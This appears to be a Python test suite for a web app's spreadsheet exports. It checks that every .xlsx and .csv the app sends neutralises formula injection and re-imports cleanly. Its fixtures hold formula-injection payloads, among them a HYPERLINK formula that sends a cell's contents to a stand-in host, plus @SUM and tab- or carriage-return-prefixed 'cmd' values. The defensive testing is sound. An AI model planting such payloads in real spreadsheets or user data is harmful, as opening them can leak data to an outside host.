"""Every spreadsheet the app sends, found from the app's URL map, fetched with hostile text in its data.

Names, grid and department names and question stems start like formulas; each .xlsx must hold
no formula cell and give every such value back as typed (shown as text: Excel's quote prefix),
each .csv must carry it behind the apostrophe guard, and each response must name one charset.
"""
from __future__ import annotations

import csv
import inspect
import io
import re
from datetime import date, timedelta

import sqlalchemy as sa
from openpyxl import load_workbook

from academy.database import city_today
from academy.exports import FORMULA_START
from academy.extensions import db
from academy.files import write_file
from academy.jobs import Job, JobStatus, enqueue_job
from academy.permissions import Role
from academy.registry.jobs import IMPORT_JOB, upload_folder
from tests.courses.exams.importing import import_file
from tests.fixtures.certificates import create_cert_type, final_exam_course, sit_exam, trainee
from tests.fixtures.exams import create_question
from tests.fixtures.indicators import at, make_case
from tests.fixtures.registry import assign, create_department, create_grid
from tests.support import log_in, post_form

HOSTILE = ('=HYPERLINK("http://x/?"&B3,"张娟")', "=1+1", "+86 139 0000 0000", "-南", "@SUM(A1)", "\tcmd", "\rcmd")
SENDS = re.compile(r"\b(download|send_stored|send_file|Response)\(")
# Endpoints that send a file but never a spreadsheet the app wrote: uploads sent back as they came.
NOT_SPREADSHEETS = {
    "web.openapi": "the OpenAPI description, a fixed YAML file",
    "cases.photo": "a photo a reporter uploaded",
    "registry.worker_photo": "the worker's photo on his record, a JPEG re-encoded from his upload",
    "lessons.file": "a lesson material, sent as the instructor uploaded it",
    "exams.stem_image": "an image shown in a question stem",
    "activation.letters_file": "activation letters: PDFs, and a .zip of them",
    "registry.staff_template": "the staff import's template: its headers and no data (written by academy.exports)",
    "frame.icon": "the app's icons, PNG drawn from the logo",
    "frame.service_worker": "the service worker's script",
    **{f"open311.{name}": "Open311 GeoReport: XML or JSON by the URL's extension, never a spreadsheet"
       for name in ("create_request", "discovery", "request_detail", "request_list", "request_updates",
                    "service_definition", "services", "token")},
}
EXPORTS = ("registry.import_template", "registry.export_list", "indicators.ranking", "enrollment.overdue_export",
           "enrollment.stats_export", "enrollment.effect_export",
           "exams.bank_export", "exams.results_xlsx", "exams.gradebook_xlsx", "certificates.batch_file",
           "web.job_result", "accounts.audit_export")


def in_xlsx(value: str) -> str:
    """How a value reads back from .xlsx: XML keeps no carriage return (see academy/exports.py)."""
    return value.replace("\r\n", "\n").replace("\r", "\n")


def guarded(value: str) -> str:
    return "'" + value if value.startswith(FORMULA_START) else value


def spreadsheet_endpoints(app) -> set[str]:
    """Endpoints whose URL ends like a spreadsheet, or whose view sends a file or a built response."""
    found = set()
    for rule in app.url_map.iter_rules():
        view = inspect.unwrap(app.view_functions[rule.endpoint])
        if rule.rule.endswith((".xlsx", ".csv", ".<fmt>")) or SENDS.search(inspect.getsource(view)):
            found.add(rule.endpoint)
    return found


def test_every_spreadsheet_endpoint_is_walked_below(app):
    assert spreadsheet_endpoints(app) == set(EXPORTS) | set(NOT_SPREADSHEETS)


def _hostile_city(make_user):
    """Workers named HOSTILE (trainees who passed a final exam, hold a certificate, are overdue on
    training and handled cases), a grid, a department and questions with hostile names or stems."""
    from courses.enrollment import training
    from courses.exams.grading import QuestionType

    course, exam = final_exam_course()
    create_cert_type(course=course)
    grid = create_grid("320102001001", name="=1+1")
    create_department("320102", name="@SUM(A1)")
    workers = []
    for name in HOSTILE:
        user, worker = trainee(course, name=name)
        sit_exam(exam, right=5, user=user, worker=worker)
        assign(worker, grid, starts_on=date(2025, 1, 1))
        training.assign_training(worker, course, None, due_on=city_today() - timedelta(days=3))
        for day in ("2026-03-02", "2026-03-03", "2026-03-04"):
            make_case(grid=grid, worker=worker, category=_category(), reported=at(day), accepted=at(day),
                      due=at("2026-03-09", 17), closed=at("2026-03-05"))
        workers.append(worker)
    workers[2].phone = "+86 139 0000 0000"
    for stem in HOSTILE:
        create_question(QuestionType.TRUE_FALSE, stem=stem)
    db.session.flush()
    return course, exam


def _category():
    from academy.cases.models import Category
    from tests.fixtures.cases import create_category

    return db.session.scalar(sa.select(Category).where(Category.code == "DISPUTE")) or create_category(
        "Dispute", code="DISPUTE")


def _refresh_indicators():
    from academy.indicators.operations import ensure_scheme, refresh_period
    from academy.indicators.periods import parse_period

    ensure_scheme()
    refresh_period(parse_period("2026-03"), as_of=at("2026-04-15"))


def _batch_and_import_jobs(client, run_jobs, admin, course) -> tuple[str, str]:
    """A certificate batch (its roster .xlsx) and a registry import whose problem report names the
    hostile column headers of the upload (the report's .csv)."""
    from academy.exports import Table, xlsx_bytes
    from academy.registry.exchange.sheets import WORKERS

    response = post_form(client, "/certificates/batches", {
        "type_id": "0", "status": "", "course_id": str(course.id), "exam_id": "0", "branch_id": "0",
        "language": "holder", "confirmed": "1"}, token_from="/certificates/batches")
    assert response.status_code == 302
    upload = xlsx_bytes([Table(WORKERS.title, [c.header for c in WORKERS.columns] + list(HOSTILE), [["x"]])])
    write_file(upload_folder() / "hostile.xlsx", upload)
    enqueue_job(IMPORT_JOB, {"stored": "hostile.xlsx", "filename": "hostile.xlsx", "user_id": admin.id}, by=admin)
    db.session.flush()
    run_jobs()  # the notices' deliveries run too: count only the two jobs asked for
    jobs = {job.kind: job for job in db.session.scalars(sa.select(Job).where(
        Job.kind.in_(["certificates.batch", IMPORT_JOB])))}
    assert len(jobs) == 2 and all(job.status == JobStatus.DONE for job in jobs.values())
    return jobs["certificates.batch"].id, jobs[IMPORT_JOB].id


def _urls(course, exam, batch_id: str, import_id: str) -> dict[str, list[str]]:
    registry = [f"/registry/export/{kind}.{fmt}?encoding={enc}" for kind in
                ("grids", "workers", "assignments", "departments", "staffing")
                for fmt, enc in (("xlsx", "utf-8"), ("csv", "utf-8"), ("csv", "gb18030"))]
    return {
        "registry.import_template": ["/registry/import/template.xlsx",
                                     "/registry/import/template.csv?sheet=workers&encoding=gb18030"],
        "registry.export_list": registry,
        "indicators.ranking": [f"/indicators/areas/320102/ranking.{fmt}?period=2026-03" for fmt in ("xlsx", "csv")],
        "enrollment.overdue_export": ["/training/overdue.xlsx"],
        "enrollment.stats_export": ["/training/stats.xlsx?start=2020-01-01"],
        "enrollment.effect_export": ["/training/effect.xlsx"],
        "exams.bank_export": ["/exams/bank/export?format=xlsx", "/exams/bank/export?format=xlsx&template=1"],
        "exams.results_xlsx": [f"/exams/{exam.id}/results.xlsx"],
        "exams.gradebook_xlsx": [f"/courses/{course.id}/gradebook.xlsx"],
        "certificates.batch_file": [f"/certificates/batches/{batch_id}/roster_xlsx"],
        "web.job_result": [f"/jobs/{import_id}/result"],
        "accounts.audit_export": ["/admin/audit/export.xlsx"],
    }


# Which hostile values each export holds: whose names, stems or uploads it lists.
EXPECTED = {"/registry/import/template": (), "template=1": (), "departments": ("@SUM(A1)",), "staffing": (),
            "grids": ("=1+1",), "/admin/audit": (), "/training/stats": (), "/training/effect": (), "/exams/bank/export": HOSTILE, "/jobs/": tuple(in_xlsx(v) for v in HOSTILE)}


def _expected(url: str) -> tuple[str, ...]:
    return next((values for key, values in EXPECTED.items() if key in url), HOSTILE)


def _check_xlsx(url: str, data: bytes) -> None:
    workbook = load_workbook(io.BytesIO(data))
    cells = [cell for sheet in workbook.worksheets for row in sheet.iter_rows() for cell in row]
    assert not [cell.coordinate for cell in cells if cell.data_type == "f"], url
    by_value = {cell.value: cell for cell in cells if isinstance(cell.value, str)}
    for value in _expected(url):
        stored = in_xlsx(value)
        cell = by_value.get(stored)
        assert cell is not None, (url, value)
        assert cell.data_type == "s" and (cell.quotePrefix or not stored.startswith(FORMULA_START)), (url, value)
    for sheet in workbook.worksheets:
        assert len(sheet.title) <= 31 and not re.search(r"[\[\]:*?/\\]", sheet.title), (url, sheet.title)


def _check_csv(url: str, text: str) -> None:
    fields = [field for row in csv.reader(io.StringIO(text)) for field in row]
    for value in _expected(url):
        assert guarded(value) in fields, (url, value)
    unguarded = [f for f in fields if f.startswith(FORMULA_START) and not re.fullmatch(r"-?\d+(\.\d+)?", f)]
    assert not unguarded, (url, unguarded)


def test_every_export_keeps_hostile_text_as_text(client, make_user, run_jobs):
    course, exam = _hostile_city(make_user)
    _refresh_indicators()
    admin = make_user("export-admin", Role.ADMIN)
    log_in(client, "export-admin")
    batch_id, import_id = _batch_and_import_jobs(client, run_jobs, admin, course)
    urls = _urls(course, exam, batch_id, import_id)
    assert set(urls) == set(EXPORTS)
    for url in (url for endpoint in EXPORTS for url in urls[endpoint]):
        response = client.get(url)
        assert response.status_code == 200, url
        content_type = response.headers["Content-Type"]
        disposition = response.headers["Content-Disposition"]
        assert disposition.startswith("attachment;") and "filename*=UTF-8''" in disposition, url
        if ".xlsx" in disposition or "format=xlsx" in url:
            assert content_type == "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet", url
            _check_xlsx(url, response.data)
            continue
        charsets = re.findall(r"charset=([\w-]+)", content_type)
        assert content_type.startswith("text/csv;") and len(charsets) == 1, (url, content_type)
        text = response.data.decode("utf-8-sig" if charsets[0] == "utf-8" else charsets[0])
        _check_csv(url, text)


def test_sheets_and_headers_speak_chinese(client, make_user, make_worker):
    make_worker("320102", name="王芳")
    make_user("export-hr", Role.HR)
    log_in(client, "export-hr")
    client.environ_base["HTTP_ACCEPT_LANGUAGE"] = "zh-CN"
    workbook = load_workbook(io.BytesIO(client.get("/registry/export/assignments.xlsx").data))
    assert workbook.sheetnames == ["任职"]
    assert "姓名" in [cell.value for cell in workbook.active[1]] and "名称" not in [c.value for c in workbook.active[1]]
    workers = load_workbook(io.BytesIO(client.get("/registry/export/workers.xlsx").data))
    assert workers.sheetnames == ["网格员"] and "姓名 / Name" in [cell.value for cell in workers.active[1]]


def test_a_registry_export_imports_again_unchanged_and_edits_apply(client, make_user, make_worker):
    """Workers and grids exported as .xlsx and .csv (both encodings) go back through the import page:
    nothing changes; a name edited in the exported file is what the registry then holds."""
    from academy.registry.models import Grid, Worker

    workers = [make_worker("320102", name=name) for name in ('=HYPERLINK("http://x/?"&B3,"张娟")', "=1+1", "-南")]
    workers[0].phone = "+86 139 0000 0000"
    create_grid("320102001001", name="@SUM(A1)")
    db.session.flush()
    make_user("export-hr", Role.HR)
    log_in(client, "export-hr")
    before = {w.number: (w.name, w.phone) for w in db.session.scalars(sa.select(Worker))}
    # In a file read as GBK/GB18030 a "?" may stand for a character GBK could not hold: the hostile
    # name with a "?" is refused there by name (and nothing changes); every other file comes back.
    lossy = _import(client, client.get("/registry/export/workers.csv?encoding=gb18030").data, "workers.csv")
    assert lossy.status_code == 400 and "GBK" in lossy.get_data(as_text=True)
    for url, name in (("/registry/export/workers.xlsx", "workers.xlsx"), ("/registry/export/grids.xlsx", "grids.xlsx"),
                      ("/registry/export/workers.csv", "workers.csv"),
                      ("/registry/export/grids.csv?encoding=gb18030", "grids.csv")):
        response = _import(client, client.get(url).data, name)
        assert response.status_code == 302, (url, response.get_data(as_text=True)[-2000:])
        db.session.expire_all()
        assert {w.number: (w.name, w.phone) for w in db.session.scalars(sa.select(Worker))} == before, url
        assert db.session.scalar(sa.select(Grid.name).where(Grid.name == "@SUM(A1)")) == "@SUM(A1)"
    workbook = load_workbook(io.BytesIO(client.get("/registry/export/workers.xlsx").data))
    sheet = workbook.active
    row = next(r for r in sheet.iter_rows(min_row=2) if r[0].value == workers[1].number)
    row[2].value = "王芳"
    edited = io.BytesIO()
    workbook.save(edited)
    assert _import(client, edited.getvalue(), "workers.xlsx").status_code == 302
    db.session.expire_all()
    assert db.session.get(Worker, workers[1].id).name == "王芳" and db.session.get(Worker, workers[0].id).name == before[
        workers[0].number][0]


def _import(client, data: bytes, name: str):
    return post_form(client, "/registry/import", {"file": (io.BytesIO(data), name)}, token_from="/registry/import",
                     content_type="multipart/form-data")


def test_the_question_bank_export_imports_again_with_the_same_stems(client, make_user):
    from courses.exams.grading import QuestionType
    from courses.exams.models import Question

    stems = ('=HYPERLINK("http://x/?"&B3,"张娟")', "=1+1", "+86 139 0000 0000", "-南", "@SUM(A1)")
    for stem in stems:
        create_question(QuestionType.TRUE_FALSE, stem=stem)
    make_user("export-instructor", Role.INSTRUCTOR)
    log_in(client, "export-instructor")
    data = client.get("/exams/bank/export?format=xlsx").data
    before = db.session.scalar(sa.select(sa.func.count(Question.id)))
    response = import_file(client, "questions.xlsx", data)
    assert response.status_code == 302, response.get_data(as_text=True)[-2000:]
    imported = db.session.scalars(sa.select(Question.stem).order_by(Question.id).offset(before)).all()
    assert set(stems) <= set(imported) and len(imported) == before
